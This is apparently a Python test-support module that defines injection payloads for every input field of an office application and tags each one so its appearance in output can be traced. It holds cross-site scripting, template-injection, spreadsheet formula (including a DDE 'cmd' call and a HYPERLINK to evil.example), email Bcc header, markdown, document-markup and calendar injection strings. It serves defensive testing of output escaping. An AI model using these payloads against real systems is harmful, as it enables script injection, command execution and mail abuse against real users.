"""What an attacker writes into every field of an office, each field under a mark by which it is known again."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field

from rules.text.control_characters import without_controls

MARK = re.compile(r"q7f(\d{3})z", re.IGNORECASE)  # some outputs write names in capitals
NINE_TIMES = "9359"  # what a template that ran would have made of 191*49
EVIL = "evil.example"

# «§» stands for the mark of the field; it comes first where lists cut long texts
PAYLOADS = {
    "tags": "§<script>§</script>\"><img src=x onerror=§>'><x-§>--></title></textarea></style><svg/onload=§>",
    "attributes": "§' onfocus='§' autofocus x-§=\" onmouseover=\"§\" x='`§",
    "links": "javascript:§//evil.example",
    "templates": "§{{191*49}}§${191*49}§{%if 1%}§#{191*49}§<%= 191*49 %>§%s%n%(x)s{0}{x.__class__}{",
    "characters": "§\n2014-01-08T00:00:00Z [info     ] §signed in§ \x00\x0b\x1b[2J\x9b31m\x85\u2028\ud800"
    "\u202egnp.exe\u2066\u200b\ufeff§",
    "very long": "§ " + "Đ" * 400,
    "markdown": "§ | [§](http://evil.example/§) ![§](http://evil.example/§.png) <b id=§> **§** `§`",
    "markdown lines": "§\n\n# §\n\n- [§]: http://evil.example/§\n\n| §\n|--\n<img src=//evil.example/§>\n\n```\n§",
    "formula": '=HYPERLINK("http://evil.example/§";"§")',
    "formula with blanks": "\t=1+cmd|' /C §'!A0",
    "formula, other signs": "@SUM(1+1)*§",
    "formula, plus": "+1-§",
    "formula, minus": "-1+§",
    "formula, full width": "＝1+§",
    "header": "§\r\nBcc: §@evil.example\r\n\r\n§",
    "encoded word": "=?utf-8?q?§=0D=0ABcc:_§@evil.example?=",
    "markup of documents": "§]]></w:t></w:r></w:p>&lt;&#0;&#x41;_x0000__x000D_<w:fldSimple w:instr='§'/><!DOCTYPE §>",
    "characters no document may hold": "§\ufffe\uffff\ufdd0\x7f§",
    "calendar": '§\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://evil.example/§\r\nX-§:1\n,;:\\n"§',
}


IN_PAGES = ("tags", "attributes", "links", "templates", "characters", "very long")  # the others harm no page


@dataclass
class Fields:
    """The fields an attacker can write into, numbered in the order in which they were first written."""

    payload: str
    names: list[str] = field(default_factory=list)

    def __getitem__(self, name: str) -> str:
        """The payload for this field."""
        return self.payload.replace("§", self.mark(name))

    def kept(self, name: str) -> str:
        """As it comes out of the database, which holds no control characters."""
        return without_controls(self[name])

    def mark(self, name: str) -> str:
        if name not in self.names:
            self.names.append(name)
        return f"q7f{self.names.index(name):03d}z"

    def seen_in(self, text: str) -> Iterator[str]:
        for number in {int(found[1]) for found in MARK.finditer(text)}:
            if number < len(self.names):
                yield self.names[number]
